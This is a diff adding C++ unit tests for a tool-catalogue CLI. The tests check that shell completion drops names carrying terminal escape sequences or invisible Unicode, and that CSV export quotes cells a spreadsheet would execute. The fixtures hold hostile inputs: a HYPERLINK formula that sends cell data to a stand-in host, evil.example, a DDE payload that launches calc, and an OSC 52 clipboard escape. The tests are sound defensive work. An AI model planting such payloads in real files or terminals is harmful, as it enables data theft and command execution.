@@ -137,3 +137,38 @@ TEST_CASE("invalid UTF-8, NUL bytes and oversized text from arguments or files a
   CHECK_THAT(info.out, Catch::Contains(R"("reviews": 0)") && Catch::Contains(R"("personas": 4)"));
   CHECK_THAT(db.ok({"show", "Plain", "--json"}), Catch::Contains(R"("vendor": null)"));
 }
+
+TEST_CASE("shell completion leaves out names a terminal would act on or a reader could not see") {
+  Db db;
+  db.ok({"add", "Safe Tool", "--category", "Dev\x1b]52;c;cHduZWQ=\x07", "-q"});
+  db.ok({"add", "Safe Other", "--category", "Plain", "-q"});
+  db.ok({"add", "Sa\xE2\x80\x8B" "fe Hidden", "-q"});  // a zero-width space
+  db.ok({"add", "Sa\xE2\x80\xAE" "fe Flipped", "-q"});  // a bidi override
+  Result tools = run({"__complete", "tools", "Sa"}, "C.UTF-8", {{"TOOLCMP_DB", db.path()}});
+  CHECK(tools.out == "Safe Other\nSafe Tool\n");
+  Result categories = run({"__complete", "words", "list", "--category", ""}, "C.UTF-8", {{"TOOLCMP_DB", db.path()}});
+  CHECK(first_raw_control(categories.out).empty());
+  CHECK_THAT(categories.out, Catch::Contains("Plain"));
+  CHECK_THAT(categories.out, !Catch::Contains("Dev"));
+}
+
+TEST_CASE("CSV export guards cells a spreadsheet would run and imports them back exactly") {
+  Db db;
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+  db.ok({"add", formula, "--vendor", "+cmd|'/c calc'!A0", "--tagline", "'=already quoted", "--pricing", "-5 a month",
+         "-q"});
+  std::string csv = db.ok({"export", "--format", "csv"});
+  CHECK_THAT(csv, Catch::Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""));
+  CHECK_THAT(csv, Catch::Contains(",'+cmd|'/c calc'!A0,"));
+  CHECK_THAT(csv, Catch::Contains(",''=already quoted,"));
+  CHECK_THAT(csv, Catch::Contains(",'-5 a month,"));
+  std::string raw = db.ok({"export", "--format", "csv", "--keep-formulas"});
+  CHECK_THAT(raw, Catch::Contains(",+cmd|'/c calc'!A0,"));
+
+  Db copy;
+  std::string file = db.dir().file("tools.csv");
+  std::ofstream(file) << csv;
+  copy.ok({"import", file, "-q"});
+  CHECK(copy.ok({"export", "--format", "csv"}) == csv);
+  CHECK_THAT(copy.ok({"show", formula, "--json"}), Catch::Contains("\"vendor\": \"+cmd|'/c calc'!A0\""));
+}
